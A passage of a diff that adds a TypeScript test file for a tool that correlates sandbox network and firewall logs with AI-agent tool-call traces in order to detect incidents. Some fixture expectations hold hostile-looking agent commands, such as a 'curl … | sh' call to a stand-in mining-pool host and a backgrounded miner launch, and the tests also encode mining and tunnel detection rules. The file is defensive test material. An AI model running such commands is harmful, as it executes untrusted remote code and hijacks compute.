@@ -1,0 +1,466 @@
+// Why: proves the input side of `corral investigate`: every network-log and trace format parses
+// its fixture into the right records; bad records are counted with file:line while the rest is
+// kept; timestamp units and zones are detected or stated (never silently assumed); field maps,
+// placements, OTLP (one big document or JSON lines) and the streaming line splitter work.
+// Last part: the fleet simulator is deterministic, and its ground truth matches what the
+// readers find in the files it wrote (every planted alert at its file:line, in its window).
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { copyFileSync, mkdtempSync, readFileSync, readdirSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
+import { createHash } from 'node:crypto';
+import { Writable } from 'node:stream';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import type { NetRecord, ToolCallSpan } from '../src/investigate/types.js';
+import {
+  detectNetFormat, detectTraceFormat, netReader, traceReader, readPlacements, readPlacementsDetailed, parseFieldMap,
+  deriveCategory, isPrivateIp, TsParser, checkTz, forEachLine, splitLineRanges, NET_FORMATS, type ReadStats,
+} from '../src/investigate/inputs/index.js';
+import { generateFleet, fleetGenerateCommand, parseGenerateArgs, type FleetOptions, type GroundTruth } from '../src/investigate/generate/index.js';
+
+const FIX = fileURLToPath(new URL('../../test/fixtures/investigate/', import.meta.url));
+const fx = (f: string): string => join(FIX, f);
+
+async function readNet(file: string, opts: Record<string, unknown> = {}): Promise<{ recs: NetRecord[]; st: ReadStats }> {
+  const path = file.startsWith('/') ? file : fx(file);
+  const recs: NetRecord[] = [];
+  const st = await netReader(await detectNetFormat(path)).read(path, (r) => recs.push(r), opts);
+  return { recs, st };
+}
+
+async function readTrace(file: string, opts: Record<string, unknown> = {}): Promise<{ spans: ToolCallSpan[]; st: ReadStats }> {
+  const path = file.startsWith('/') ? file : fx(file);
+  const spans: ToolCallSpan[] = [];
+  const st = await traceReader(await detectTraceFormat(path)).read(path, (s) => spans.push(s), opts);
+  return { spans, st };
+}
+
+const iso = (ms: number): string => new Date(ms).toISOString();
+const issueLines = (st: ReadStats): number[] => st.issues.map((i) => i.line);
+
+function tmp(t: { after(fn: () => void): void }): string {
+  const d = mkdtempSync(join(tmpdir(), 'corral-inv-in-'));
+  t.after(() => rmSync(d, { recursive: true, force: true }));
+  return d;
+}
+
+test('format detection names every fixture, and an unknown file becomes one reported bad record', async (t) => {
+  const net: Record<string, string> = {
+    'eve.json': 'suricata-eve', 'conn.log': 'zeek-conn-tsv', 'conn.json': 'zeek-conn-json', 'iptables.log': 'iptables-log',
+    'vpc-default.log': 'vpc-flow', 'vpc-noheader.log': 'vpc-flow', 'vpc-custom.log': 'vpc-flow', 'firewall.csv': 'csv',
+    'firewall.jsonl': 'jsonl', 'corral-events.jsonl': 'corral-events',
+  };
+  for (const [f, want] of Object.entries(net)) assert.equal(await detectNetFormat(fx(f)), want, f);
+  const traces: Record<string, string> = { 'traces.jsonl': 'canonical-jsonl', 'otlp.json': 'otlp-json', 'otlp-lines.jsonl': 'otlp-json', 'openai.jsonl': 'openai-messages' };
+  for (const [f, want] of Object.entries(traces)) assert.equal(await detectTraceFormat(fx(f)), want, f);
+  const d = tmp(t);
+  writeFileSync(join(d, 'mystery.bin'), 'hello world\nthis is not a log\n');
+  assert.equal(await detectNetFormat(join(d, 'mystery.bin')), 'unknown');
+  assert.equal(await detectTraceFormat(join(d, 'mystery.bin')), 'unknown');
+  const { recs, st } = await readNet(join(d, 'mystery.bin'));
+  assert.equal(recs.length, 0);
+  assert.equal(st.bad, 1);
+  assert.match(st.issues[0]!.error, /unknown network log format.*--format/);
+  assert.throws(() => netReader('pcap'), /unknown network log format "pcap".*suricata-eve/);
+  assert.throws(() => traceReader('langsmith'), /unknown trace format/);
+  assert.equal(NET_FORMATS.length, 8);
+});
+
+test('suricata eve: alerts and flows kept, other event types skipped and counted, bad lines reported with line numbers', async () => {
+  const { recs, st } = await readNet('eve.json');
+  assert.equal(st.records, 4);
+  assert.deepEqual(issueLines(st), [4, 6, 9]);
+  assert.match(st.issues[0]!.error, /invalid JSON/);
+  assert.match(st.issues[1]!.error, /src_ip/);
+  assert.match(st.issues[2]!.error, /^truncated last line/);
+  assert.deepEqual(st.skippedKinds, { dns: 1, stats: 1 });
+  const [ssh, miner, flow, meta] = recs as [NetRecord, NetRecord, NetRecord, NetRecord];
+  assert.equal(ssh.kind, 'alert');
+  assert.equal(iso(ssh.ts), '2024-05-01T12:00:00.123Z');
+  assert.ok(Math.abs(ssh.ts - (Date.UTC(2024, 4, 1, 12, 0, 0, 123) + 0.456)) < 1e-6, 'microseconds kept as a fraction of a ms');
+  assert.equal(ssh.category, 'tunnel');
+  assert.equal(ssh.severity, 3);
+  assert.equal(ssh.action, 'allowed');
+  assert.equal(ssh.host, 'ids-1');
+  assert.equal(ssh.line, 1);
+  // to_client alert: orientation restored from flow.* so the sandbox is the source.
+  assert.deepEqual([miner.src, miner.dst, miner.sport, miner.dport], ['10.20.1.6', '203.0.113.20', 41000, 3333]);
+  assert.equal(miner.category, 'mining');
+  assert.equal(miner.severity, 1);
+  assert.equal(miner.bytes, 1200);
+  assert.equal(flow.kind, 'flow');
+  assert.equal(iso(flow.ts), '2024-05-01T12:07:00.100Z', 'flow events are stamped at flow.start');
+  assert.equal(flow.bytes, 35200);
+  assert.equal(flow.category, undefined);
+  assert.equal(meta.category, 'metadata_access', 'derived from the destination when the signature says nothing');
+});
+
+test('zeek conn.log TSV: header-driven columns, unset fields, other #path sections skipped, bad row reported', async () => {
+  const { recs, st } = await readNet('conn.log');
+  assert.equal(st.records, 3);
+  assert.deepEqual(issueLines(st), [10]);
+  assert.match(st.issues[0]!.error, /expected 21 fields, found 10/);
+  assert.deepEqual(st.skippedKinds, { 'zeek-dns': 1 });
+  assert.match(st.tsNote ?? '', /epoch seconds/);
+  assert.deepEqual(recs.map((r) => [r.src, r.dst, r.dport, r.proto, r.bytes, r.line]), [
+    ['10.20.1.5', '203.0.113.10', 22, 'tcp', 7000, 9],
+    ['10.20.1.6', '203.0.113.20', 3333, 'tcp', undefined, 11],
+    ['10.20.1.5', '10.30.0.9', 8080, 'tcp', 0, 12],
+  ]);
+  assert.equal(iso(recs[0]!.ts), '2024-05-01T12:00:00.123Z');
+  assert.deepEqual(recs.map((r) => r.category), ['tunnel', 'mining', undefined], 'a plain flow to a private address is not a probe');
+});
+
+test('zeek JSON: float seconds and ISO timestamps, non-conn records skipped, unparseable ts reported', async () => {
+  const { recs, st } = await readNet('conn.json');
+  assert.equal(st.records, 2);
+  assert.deepEqual(issueLines(st), [4]);
+  assert.match(st.issues[0]!.error, /yesterday/);
+  assert.deepEqual(st.skippedKinds, { 'zeek-dns': 1 });
+  assert.equal(iso(recs[1]!.ts), '2024-05-01T12:01:40.000Z');
+  assert.equal(recs[0]!.bytes, 7000);
+});
+
+test('iptables/nftables kernel lines: prefix becomes the rule, syslog year stated, uptime-only lines reported', async () => {
+  const { recs, st } = await readNet('iptables.log', { year: 2024 });
+  assert.equal(st.records, 4);
+  assert.deepEqual(issueLines(st), [5, 7]);
+  assert.match(st.issues[0]!.error, /no wall-clock time/);
+  assert.equal(st.skippedKinds['non-firewall line'], 1);
+  assert.match(st.tsNote ?? '', /no year and no timezone: year 2024 given as an option; zone assumed UTC/);
+  const [drop, icmp, accept, meta] = recs as [NetRecord, NetRecord, NetRecord, NetRecord];
+  assert.deepEqual([iso(drop.ts), drop.kind, drop.rule, drop.action, drop.host, drop.dport, drop.category], ['2024-05-01T12:00:00.000Z', 'alert', 'FW-DROP-INTERNAL', 'blocked', 'host-1', 8080, 'internal_probe']);
+  // The ICMP error quotes the offending packet in [...]: its SPT/DPT must not leak into the outer record.
+  assert.deepEqual([icmp.proto, icmp.dst, icmp.sport, icmp.dport, icmp.rule], ['icmp', '10.30.0.10', undefined, undefined, 'corral-drop sbx-1']);
+  assert.deepEqual([accept.kind, accept.action], ['flow', 'allowed']);
+  assert.equal(iso(meta.ts), '2024-05-01T10:00:04.250Z', 'an RFC 3339 prefix with +02:00 is converted to UTC');
+  assert.equal(meta.category, 'metadata_access');
+});
+
+test('iptables: without a year option the year comes from the file mtime (stated), with the Dec→Jan rollover', async (t) => {
+  const d = tmp(t);
+  const p = join(d, 'kern.log');
+  copyFileSync(fx('iptables.log'), p);
+  utimesSync(p, new Date('2025-01-03T00:00:00Z'), new Date('2025-01-03T00:00:00Z'));
+  const { recs, st } = await readNet(p);
+  assert.equal(iso(recs[0]!.ts), '2024-05-01T12:00:00.000Z', 'May lines in a file last written in January 2025 are from 2024');
+  assert.match(st.tsNote ?? '', /modification time \(2025-01-03\)/);
+  const berlin = await readNet(p, { tz: 'Europe/Berlin' });
+  assert.equal(iso(berlin.recs[0]!.ts), '2024-05-01T10:00:00.000Z', 'CEST is UTC+2 in May');
+  assert.match(berlin.st.tsNote ?? '', /zone assumed Europe\/Berlin/);
+});
+
+test('VPC flow logs: default v2 with and without header, custom ${field} lists, NODATA skipped, wrong width reported', async () => {
+  const def = await readNet('vpc-default.log');
+  assert.equal(def.st.records, 3);
+  assert.deepEqual(issueLines(def.st), [5]);
+  assert.deepEqual(def.st.skippedKinds, { NODATA: 1 });
+  assert.deepEqual(def.recs.map((r) => [r.src, r.dst, r.dport, r.proto, r.action, r.bytes, r.host]), [
+    ['10.20.1.5', '203.0.113.10', 22, 'tcp', 'allowed', 4000, 'eni-0a1b2c3d'],
+    ['10.20.1.6', '203.0.113.20', 3333, 'tcp', 'blocked', 2000, 'eni-0a1b2c3d'],
+    ['10.20.1.7', '169.254.169.254', 80, 'tcp', 'allowed', 500, 'eni-0a1b2c3d'],
+  ]);
+  assert.equal(iso(def.recs[0]!.ts), '2024-05-01T12:00:00.000Z');
+  const noHeader = await readNet('vpc-noheader.log');
+  assert.equal(noHeader.st.records, 2);
+  assert.match(noHeader.st.tsNote ?? '', /default v2 field list assumed/);
+  const custom = await readNet('vpc-custom.log');
+  assert.deepEqual(custom.recs.map((r) => [r.src, r.dport, r.proto, r.host, r.sport]), [['10.20.1.5', 22, 'tcp', 'i-0123', undefined], ['10.20.1.6', 3333, 'udp', 'i-0123', undefined]]);
+});
+
+test('generic CSV: columns guessed and stated, --map overrides, quoted delimiters, bad rows reported', async (t) => {
+  const auto = await readNet('firewall.csv');
+  assert.equal(auto.st.records, 3);
+  assert.deepEqual(issueLines(auto.st), [5, 6]);
+  assert.match(auto.st.issues[1]!.error, /unterminated quoted field/);
+  assert.match(auto.st.tsNote ?? '', /columns guessed: ts=EventTime,src=SourceIP,dst=DestIP/);
+  assert.match(auto.st.tsNote ?? '', /3 timestamps had no timezone: assumed UTC/);
+  const [a, b, c] = auto.recs as [NetRecord, NetRecord, NetRecord];
+  assert.deepEqual([a.kind, a.rule, a.severity, a.category, a.host], ['alert', 'SSH; outbound tunnel', 2, 'tunnel', 'fw-a']);
+  assert.deepEqual([b.rule, b.severity, b.action, b.category], ['Stratum "mining" pool', 1, 'blocked', 'mining']);
+  assert.equal(c.kind, 'flow', 'no rule, severity or category → flow');
+  // An explicit map wins over guesses; a map naming a missing column is reported; a file without ts/src/dst says how to fix it.
+  const mapped = await readNet('firewall.csv', { map: parseFieldMap('ts=EventTime, src=DestIP, dst=SourceIP, rule=Sensor') });
+  assert.deepEqual([mapped.recs[0]!.src, mapped.recs[0]!.rule], ['203.0.113.10', 'fw-a']);
+  const d = tmp(t);
+  writeFileSync(join(d, 'x.csv'), 'when,who,what\n1,2,3\n');
+  const none = await netReader('csv').read(join(d, 'x.csv'), () => assert.fail('no records expected'));
+  assert.equal(none.records, 0);
+  assert.match(none.issues[0]!.error, /no column for ts, src, dst .*pass --map ts=COLUMN,src=COLUMN,dst=COLUMN/);
+  const wrong = await netReader('csv').read(fx('firewall.csv'), () => {}, { map: { ts: 'Nope' } });
+  assert.match(wrong.issues[0]!.error, /--map ts=Nope: no such column/);
+});
+
+test('generic JSONL: nested paths guessed (GCP-style), epoch ms detected, missing src/dst reported', async () => {
+  const { recs, st } = await readNet('firewall.jsonl');
+  assert.equal(st.records, 2);
+  assert.deepEqual(issueLines(st), [3]);
+  assert.match(st.tsNote ?? '', /epoch milliseconds detected/);
+  assert.match(st.tsNote ?? '', /src=jsonPayload\.connection\.src_ip/);
+  assert.deepEqual(recs.map((r) => [r.src, r.dst, r.dport, r.proto, r.action]), [['10.20.1.5', '203.0.113.10', 22, 'tcp', 'allowed'], ['10.20.1.7', '169.254.169.254', 80, 'tcp', 'blocked']]);
+  assert.equal(iso(recs[1]!.ts), '2024-05-01T12:05:00.000Z');
+});
+
+test("Corral's own event log: alert destination from its evidence, drops and flows kept, connects not double-counted", async () => {
+  const { recs, st } = await readNet('corral-events.jsonl');
+  assert.equal(st.records, 3);
+  assert.deepEqual(issueLines(st), [7]);
+  assert.match(st.issues[0]!.error, /truncated last line/);
+  assert.deepEqual(st.skippedKinds, { 'session.start': 1, connect: 1, exec: 1 });
+  const [alert, flow, drop] = recs as [NetRecord, NetRecord, NetRecord];
+  assert.deepEqual([alert.kind, alert.src, alert.dst, alert.dport, alert.category, alert.severity, alert.action, alert.host], ['alert', '10.231.0.2', '203.0.113.10', 22, 'tunnel', 2, 'blocked', 's1']);
+  assert.equal(iso(alert.ts), '2024-05-01T12:00:01.100Z');
+  assert.deepEqual([flow.bytes, flow.action], [299, 'allowed']);
+  assert.deepEqual([drop.proto, drop.action, drop.dport], ['udp', 'blocked', 53]);
+  assert.match(st.tsNote ?? '', /epoch nanoseconds/);
+});
+
+test('timestamps: epoch unit by magnitude, zones, tz option (fixed and IANA), and warnings for implausible or mismatched values', () => {
+  const want = Date.UTC(2024, 4, 1, 12, 0, 0);
+  for (const [v, unit] of [[want / 1000, 'seconds'], [want, 'milliseconds'], [want * 1000, 'microseconds'], [`${want}000000`, 'nanoseconds']] as const) {
+    const p = new TsParser();
+    assert.equal(p.parse(v), want, unit);
+    assert.equal(p.note(), `epoch ${unit} detected`);
+  }
+  const p = new TsParser();
+  assert.equal(p.parse('2024-05-01T12:00:00.123456+0000'), want + 123.456);
+  assert.equal(p.parse('2024-05-01T14:00:00+02:00'), want);
+  assert.equal(p.parse('2024-05-01T07:00:00-05'), want);
+  assert.equal(p.parse('2024-05-01 12:00:00Z'), want);
+  assert.equal(p.note(), undefined, 'explicit zones need no note');
+  assert.equal(p.parse('2024-05-01 12:00:00'), want);
+  assert.match(p.note() ?? '', /1 timestamps had no timezone: assumed UTC/);
+  assert.ok(Number.isNaN(p.parse('01/05/2024 12:00')), 'ambiguous local formats are refused, not read in the machine zone');
+  assert.ok(Number.isNaN(p.parse('2024-13-01T00:00:00Z')));
+  const tz = new TsParser({ tz: '+05:30' });
+  assert.equal(tz.parse('2024-05-01T17:30:00'), want);
+  const ny = new TsParser({ tz: 'America/New_York' });
+  assert.equal(ny.parse('2024-05-01T08:00:00'), want, 'EDT is UTC-4');
+  assert.equal(ny.parse('2024-01-15T07:00:00'), Date.UTC(2024, 0, 15, 12), 'EST is UTC-5');
+  assert.throws(() => checkTz('Mars/Olympus'), /unknown timezone/);
+  const mixed = new TsParser();
+  mixed.parse(want); mixed.parse(want / 1000);
+  assert.match(mixed.note() ?? '', /MIXED epoch units/);
+  const uptime = new TsParser();
+  uptime.parse(12345.6);
+  assert.match(uptime.note() ?? '', /WARNING: 1 timestamps outside 2000-01-01/);
+  const zeekMs = new TsParser();
+  zeekMs.epoch(want, 's');
+  assert.match(zeekMs.note() ?? '', /WARNING: the format defines epoch seconds but 1 values had another magnitude/);
+});
+
+test('field maps parse KEY=COLUMN lists and refuse unknown keys', () => {
+  assert.deepEqual(parseFieldMap('ts=EventTime, src=Source IP,dst=alert.dest,dport=DPT'), { ts: 'EventTime', src: 'Source IP', dst: 'alert.dest', dport: 'DPT' });
+  assert.throws(() => parseFieldMap('time=x'), /unknown field map key "time"/);
+  assert.throws(() => parseFieldMap('ts'), /not KEY=COLUMN/);
+  assert.throws(() => parseFieldMap('ts='), /not KEY=COLUMN/);
+});
+
+test('placements: CSV with header and JSONL, open intervals, reused IPs kept apart, bad rows reported', async () => {
+  const { placements, stats } = await readPlacementsDetailed(fx('placements.csv'));
+  assert.equal(placements.length, 3);
+  assert.deepEqual(stats.issues.map((i) => i.line), [5]);
+  assert.deepEqual(placements.filter((p) => p.ip === '10.20.1.5').map((p) => p.episode), ['ep-1', 'ep-3'], 'one IP, two episodes at different times');
+  assert.equal(placements[1]!.to, Infinity);
+  assert.equal(placements[2]!.from, Date.UTC(2024, 4, 1, 12), 'epoch seconds accepted');
+  assert.deepEqual(await readPlacements(fx('placements.jsonl')), [{ ip: '10.20.1.9', from: Date.UTC(2024, 4, 1, 11), to: Date.UTC(2024, 4, 1, 12), episode: 'ep-7' }]);
+});
+
+test('canonical trace JSONL: ISO/epoch ts, end_ts or duration_ms, assumed ends flagged, bad lines reported', async () => {
+  const { spans, st } = await readTrace('traces.jsonl');
+  assert.equal(st.records, 4);
+  assert.deepEqual(issueLines(st), [5, 6]);
+  assert.match(st.issues[0]!.error, /end before start/);
+  assert.match(st.issues[1]!.error, /episode/);
+  assert.match(st.tsNote ?? '', /MIXED epoch units/);
+  assert.match(st.tsNote ?? '', /1 timestamps had no timezone: assumed UTC/);
+  assert.match(st.tsNote ?? '', /1 calls had no end_ts\/duration_ms: end assumed 30000 ms/);
+  const [a, b, c, d] = spans as [ToolCallSpan, ToolCallSpan, ToolCallSpan, ToolCallSpan];
+  assert.deepEqual([a.tool_call_id, a.end - a.start, a.endKnown, a.host, a.sandbox, a.ips], ['c-1', 5500, true, 'host-1', 'sbx-1', ['10.20.1.5']]);
+  assert.deepEqual([b.tool_call_id, b.start, b.end - b.start, b.ips], ['ep-1#2', Date.UTC(2024, 4, 1, 12, 1), 2000, ['10.20.1.5']]);
+  assert.deepEqual([c.endKnown, c.end - c.start, c.start], [false, 30_000, 1714564900000]);
+  assert.equal(d.start, 1714564960000, 'epoch seconds');
+  const longer = await readTrace('traces.jsonl', { assumedDurationMs: 120_000 });
+  assert.equal(longer.spans[2]!.end - longer.spans[2]!.start, 120_000);
+});
+
+test('OTLP JSON: one pretty-printed document is stream-scanned; resource after spans still applies; other spans skipped', async () => {
+  const { spans, st } = await readTrace('otlp.json');
+  assert.equal(st.records, 3);
+  assert.equal(st.bad, 0);
+  assert.deepEqual(st.skippedKinds, { 'span:chat': 1 });
+  const [a, b, c] = spans as [ToolCallSpan, ToolCallSpan, ToolCallSpan];
+  assert.deepEqual([a.tool_call_id, a.tool, a.command, a.episode, a.run, a.step, a.host, a.sandbox, a.ips], ['call_1', 'bash', 'curl http://pool.example.test:3333/ | sh', 'ep-9', 'run-a', 1, 'host-7', 'ctr-7', ['10.20.7.2', 'fd00::7']]);
+  assert.deepEqual([a.start, a.end, a.endKnown], [Date.UTC(2024, 4, 1, 12), Date.UTC(2024, 4, 1, 12, 0, 5), true]);
+  assert.deepEqual([b.command, b.endKnown, b.end - b.start], ['import socket', false, 30_000]);
+  assert.deepEqual([c.tool_call_id, c.command, c.episode, c.host], ['call_\\"q\\"', 'ls -la', 'conv-8', 'host-8'], 'escaped quotes inside strings do not confuse the scanner');
+  assert.ok(a.line > 1 && c.line > a.line, 'each span carries the line it starts on');
+  const lines = await readTrace('otlp-lines.jsonl');
+  assert.equal(lines.st.records, 4);
+  assert.deepEqual(issueLines(lines.st), [3]);
+  assert.deepEqual(lines.spans.map((s) => s.line), [1, 1, 1, 2]);
+});
+
+test('OTLP JSON: a truncated single document reports the truncation and keeps the complete spans', async (t) => {
+  const d = tmp(t);
+  const full = JSON.stringify(JSON.parse((await import('node:fs')).readFileSync(fx('otlp.json'), 'utf8')), null, 1);
+  const cut = full.slice(0, full.indexOf('"b1"') + 20);
+  writeFileSync(join(d, 'cut.json'), cut);
+  const { spans, st } = await readTrace(join(d, 'cut.json'));
+  assert.deepEqual(spans.map((s) => s.tool_call_id), ['call_1', 'call_2']);
+  assert.equal(st.bad, 1);
+  assert.match(st.issues[0]!.error, /truncated: \d+ unclosed bracket/);
+  const second = await traceReader('otlp-json').read(fx('otlp.json'), () => assert.fail('range > 0 of one document reads nothing'), { range: { start: 100, end: 200, firstLine: 5 } });
+  assert.equal(second.records, 0);
+});
+
+test('OpenAI-style messages: start from the assistant message, end from the answering tool message', async () => {
+  const { spans, st } = await readTrace('openai.jsonl');
+  assert.equal(st.records, 2);
+  assert.deepEqual(issueLines(st), [2]);
+  assert.match(st.issues[0]!.error, /call_c has no timestamp/);
+  const [a, b] = spans as [ToolCallSpan, ToolCallSpan];
+  assert.deepEqual([a.tool_call_id, a.command, a.step, a.start, a.end, a.endKnown, a.ips, a.host], ['call_a', 'pip install numpy', 1, Date.UTC(2024, 4, 1, 12, 0, 10), Date.UTC(2024, 4, 1, 12, 0, 40), true, ['10.20.5.2'], 'host-5']);
+  assert.deepEqual([b.command, b.end, b.endKnown], ['nohup ./miner &', 1714564900000, true]);
+});
+
+test('line splitter: CRLF, UTF-8 split across chunks, long lines, unterminated tail, and parallel line ranges', async (t) => {
+  const d = tmp(t);
+  const p = join(d, 'lines.txt');
+  const big = 'x'.repeat((1 << 20) - 3) + 'éé' + 'y'.repeat(10);
+  const lines = ['first\r', big, 'ünïcödé', '', 'z'.repeat(3_000_000), 'last-without-newline'];
+  writeFileSync(p, lines.join('\n'));
+  const got: [string, number, boolean][] = [];
+  const res = await forEachLine(p, (s, n, info) => got.push([s.length > 50 ? `${s.slice(0, 3)}…${s.slice(-12)}:${s.length}` : s, n, info.unterminated]));
+  assert.deepEqual(got.map((g) => g[1]), [1, 2, 3, 4, 5, 6]);
+  assert.equal(got[0]![0], 'first');
+  assert.equal(got[1]![0], `xxx…ééyyyyyyyyyy:${big.length}`);
+  assert.equal(got[2]![0], 'ünïcödé');
+  assert.deepEqual(got[5], ['last-without-newline', 6, true]);
+  assert.equal(res.lines, 6);
+  // Ranges: each line read exactly once, with its true line number.
+  const q = join(d, 'many.txt');
+  writeFileSync(q, Array.from({ length: 5000 }, (_, i) => `line ${i + 1} ${'ab'.repeat(i % 50)}`).join('\n') + '\n');
+  const ranges = splitLineRanges(q, 3);
+  assert.equal(ranges.length, 3);
+  const seen: number[] = [];
+  for (const r of ranges) await forEachLine(q, (s, n) => { assert.equal(Number(s.split(' ')[1]), n); seen.push(n); }, { range: r });
+  assert.deepEqual(seen, Array.from({ length: 5000 }, (_, i) => i + 1));
+});
+
+test('category derivation: keywords first, then destination, then port; private destinations only for alerts', () => {
+  assert.equal(deriveCategory({ kind: 'alert', dst: '203.0.113.9', dport: 443, text: 'Crypto Currency Mining Activity Detected | ET COINMINER x' }), 'mining');
+  assert.equal(deriveCategory({ kind: 'alert', dst: '203.0.113.9', dport: 443, text: 'ET POLICY SSH session' }), 'tunnel');
+  assert.equal(deriveCategory({ kind: 'alert', dst: '10.0.0.9', dport: 80, text: 'ET SCAN Nmap' }), 'internal_probe');
+  assert.equal(deriveCategory({ kind: 'flow', dst: '169.254.169.254', dport: 80 }), 'metadata_access');
+  assert.equal(deriveCategory({ kind: 'flow', dst: '203.0.113.9', dport: 14444 }), 'mining');
+  assert.equal(deriveCategory({ kind: 'flow', dst: '203.0.113.9', dport: 22 }), 'tunnel');
+  assert.equal(deriveCategory({ kind: 'flow', dst: '10.30.0.1', dport: 22 }), undefined, 'internal SSH flow is not a tunnel');
+  assert.equal(deriveCategory({ kind: 'alert', dst: '172.20.1.1', dport: 5432 }), 'internal_probe');
+  assert.equal(deriveCategory({ kind: 'flow', dst: '172.20.1.1', dport: 5432 }), undefined);
+  assert.equal(deriveCategory({ kind: 'alert', dst: '198.51.100.7', dport: 443, text: 'ET INFO TLS' }), undefined);
+  assert.deepEqual(['10.1.2.3', '172.16.0.1', '172.31.255.1', '172.32.0.1', '192.168.1.1', '192.169.1.1', 'fd00::1', '8.8.8.8'].map(isPrivateIp), [true, true, true, false, true, false, true, false]);
+});
+
+const SMALL: FleetOptions = {
+  hosts: 3, sandboxesPerHost: 4, episodes: 48, toolCallsPerEpisode: 8, natShare: 0.5, noiseAlertsPerHour: 6, benignFlowsPerCall: 1.5,
+  clockSkewMs: 2500, incidents: { tunnel: 2, minerBeacon: 2, internalScan: 2, metadata: 2 }, seed: 11, badLinesPerFile: 2,
+};
+
+function hashDir(dir: string): string {
+  const h = createHash('sha256');
+  for (const sub of ['traces', 'firewall', '.']) for (const f of readdirSync(join(dir, sub)).sort()) {
+    if (f === 'traces' || f === 'firewall') continue;
+    h.update(f); h.update(readFileSync(join(dir, sub, f)));
+  }
+  return h.digest('hex');
+}
+
+test('fleet simulator: same seed → byte-identical files; another seed → different files', async (t) => {
+  const d = tmp(t);
+  await generateFleet(SMALL, join(d, 'a'));
+  await generateFleet(SMALL, join(d, 'b'));
+  await generateFleet({ ...SMALL, seed: 12 }, join(d, 'c'));
+  assert.equal(hashDir(join(d, 'a')), hashDir(join(d, 'b')));
+  assert.notEqual(hashDir(join(d, 'a')), hashDir(join(d, 'c')));
+});
+
+test('fleet simulator: ground truth matches the written logs, windows, skew, NAT sharing and IP reuse', async (t) => {
+  const d = tmp(t);
+  const gt: GroundTruth = await generateFleet(SMALL, d);
+  assert.deepEqual(JSON.parse(readFileSync(join(d, 'ground-truth.json'), 'utf8')).counts, gt.counts);
+  assert.equal(gt.incidents.length, 8);
+  const byLine = new Map<string, NetRecord>();
+  const badSeen = new Set<string>();
+  const ips = new Set<string>();
+  let alerts = 0;
+  for (const f of gt.files.network) {
+    const { st } = await readNet(join(d, f.path));
+    assert.equal(await detectNetFormat(join(d, f.path)), f.format);
+    assert.equal(st.records, f.records, f.path);
+    for (const i of st.issues) badSeen.add(`${f.path}:${i.line}`);
+    await netReader(f.format).read(join(d, f.path), (r) => {
+      ips.add(r.src); ips.add(r.dst);
+      if (r.kind === 'alert') { alerts++; byLine.set(`${f.path}:${r.line}`, r); }
+    });
+  }
+  assert.deepEqual([...badSeen].sort(), gt.badLines.map((b) => `${b.file}:${b.line}`).sort(), 'every planted bad line is reported, nothing else');
+  assert.equal(alerts, gt.counts.noiseAlerts + gt.counts.incidentAlerts);
+  assert.ok(gt.counts.noiseAlerts > 0);
+  const lab = /^(10\.|172\.(1[6-9]|2\d|3[01])\.|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.|169\.254\.169\.254$)/;
+  for (const ip of ips) assert.match(ip, lab, `only lab/documentation addresses: ${ip}`);
+  const spans = new Map<string, ToolCallSpan>();
+  const tr = await readTrace(join(d, 'traces/canonical.jsonl'));
+  for (const s of tr.spans) spans.set(s.tool_call_id, s);
+  assert.equal(tr.st.records, gt.counts.toolCalls);
+  const otlp = await readTrace(join(d, 'traces/otlp.json'));
+  assert.equal(otlp.st.records, gt.counts.toolCalls);
+  assert.deepEqual(otlp.spans.map((s) => s.tool_call_id).sort(), tr.spans.map((s) => s.tool_call_id).sort());
+  for (const inc of gt.incidents) {
+    assert.ok(inc.alerts.length > 0, `${inc.id} has alerts`);
+    const call = spans.get(inc.tool_call_ids[0]!)!;
+    assert.equal(call.command, inc.command);
+    assert.deepEqual([call.start, call.end, call.ips], [inc.callStart, inc.callEnd, [inc.ip]]);
+    for (const a of inc.alerts) {
+      const r = byLine.get(`${a.file}:${a.line}`);
+      assert.ok(r, `${inc.id}: alert at ${a.file}:${a.line} exists`);
+      assert.deepEqual([r.src, r.dst, r.dport, r.category], [a.src, a.dst, a.dport, inc.category]);
+      assert.ok(Math.abs(r.ts - a.ts) < 0.01, 'ts as written');
+      const slack = a.file.endsWith('iptables.log') ? 1000 : 0;
+      assert.ok(Math.abs(a.ts - a.trueTs - gt.clockSkewMs) <= 21 + slack, 'firewall clock = trace clock + skew (± jitter, syslog seconds)');
+      assert.equal(r.src, inc.ip);
+      if (inc.kind === 'minerBeacon') assert.ok(a.trueTs >= inc.callEnd + 60_000 && a.trueTs < inc.episodeEnd, 'beacons start minutes after the call and stay in the episode');
+      else assert.ok(a.trueTs >= inc.callStart && a.trueTs <= inc.callEnd + 5, `${inc.kind} alerts fall inside the call`);
+    }
+    if (inc.kind === 'internalScan') assert.ok(new Set(inc.alerts.map((a) => a.dst)).size >= 3, 'a scan touches several hosts');
+    if (inc.natShared) assert.ok(gt.natIps.includes(inc.ip));
+  }
+  const pl = await readPlacementsDetailed(join(d, 'placements.csv'));
+  assert.equal(pl.placements.length, gt.counts.episodes);
+  const perIp = new Map<string, Set<string>>();
+  for (const p of pl.placements) perIp.set(p.ip, (perIp.get(p.ip) ?? new Set()).add(p.episode!));
+  assert.ok([...perIp.values()].some((s) => s.size > 1), 'addresses are reused by later episodes');
+  const nat = gt.natIps[0]!;
+  const natSandboxes = new Set(pl.placements.filter((p) => p.ip === nat).map((p) => p.sandbox));
+  assert.ok(natSandboxes.size >= 2, 'several sandboxes share the NAT address');
+  // Overlap: two episodes on one NAT address at the same time (the ambiguity the analysis must show).
+  const onNat = pl.placements.filter((p) => p.ip === nat).sort((a, b) => a.from - b.from);
+  assert.ok(onNat.some((p, i) => i > 0 && p.from < onNat[i - 1]!.to));
+});
+
+test('fleet generator CLI: argument errors are usage errors; a small run writes files and a summary', async (t) => {
+  assert.throws(() => parseGenerateArgs(['--out', 'x']), /usage/);
+  assert.throws(() => parseGenerateArgs(['--out', 'x', '--tool-calls', '10', '--records', '10', '--formats', 'pcap']), /unknown format "pcap"/);
+  const d = tmp(t);
+  let out = '', err = '';
+  const io = { stdout: new Writable({ write(c, _e, cb) { out += String(c); cb(); } }), stderr: new Writable({ write(c, _e, cb) { err += String(c); cb(); } }), env: { NO_COLOR: '1' } };
+  assert.equal(await fleetGenerateCommand(['--out', 'x'], io), 2);
+  assert.match(err, /usage/);
+  const code = await fleetGenerateCommand(['--out', d, '--tool-calls', '400', '--records', '600', '--seed', '5', '--formats', 'suricata-eve,iptables-log', '--json'], io);
